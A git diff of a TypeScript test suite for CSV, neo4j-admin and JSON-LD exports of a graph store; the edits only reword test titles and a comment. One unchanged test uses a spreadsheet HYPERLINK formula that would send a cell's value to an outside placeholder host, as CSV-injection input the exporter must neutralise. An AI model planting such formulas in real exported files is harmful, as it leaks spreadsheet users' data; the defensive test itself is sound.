@@ -106,7 +106,7 @@ describe('csv', () => {
     expect(asked.map((ids) => ids.length)).toEqual([(await store.view({})).nodes.length])
   })
 
-  test('holds no formula that a spreadsheet would work out; what Neo4j imports stays as it is', async () => {
+  test('has no formula that a spreadsheet would compute; files for Neo4j keep the text unchanged', async () => {
     const words = '=HYPERLINK("https://example.org/?"&A1;"more")'
     const made = await openStore({ engine: 'embedded', folder: join(folder, 'formulas') })
     const about = { title: '+1 for peace', publisher: '@paper', publishedAt: '2025-03-07' }
@@ -217,7 +217,7 @@ describe('files for neo4j-admin', () => {
       expect(text, file).toBe((await Array.fromAsync(neo4jFile(await sourceOfStore(store, {}), file))).join(''))
   })
 
-  test('hold every node and relationship once, under the heads that it wants', async () => {
+  test('have every node and relationship once, under the headers that it expects', async () => {
     const counts = {
       'actors.csv': 7,
       'articles.csv': 2,
@@ -242,7 +242,7 @@ describe('files for neo4j-admin', () => {
 })
 
 describe('json-ld', () => {
-  test('has actors, articles, statements and where each stands, in names of its own', async () => {
+  test('has actors, articles, statements and where each stands, in a vocabulary of its own', async () => {
     const graph = (JSON.parse(await written('jsonld')) as { '@graph': Record<string, unknown>[] })['@graph']
     const ofType = (type: string) => graph.filter((one) => [one['@type']].flat().includes(type))
     expect(ofType('schema:NewsArticle')).toHaveLength(2)
@@ -259,7 +259,7 @@ describe('json-ld', () => {
   })
 })
 
-/** RFC 4180, read back. */
+/** Parses CSV by RFC 4180. */
 function csv(text: string): string[][] {
   const rows = text.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*)\r\n/g)
   return [...rows].map(([, row = '']) =>
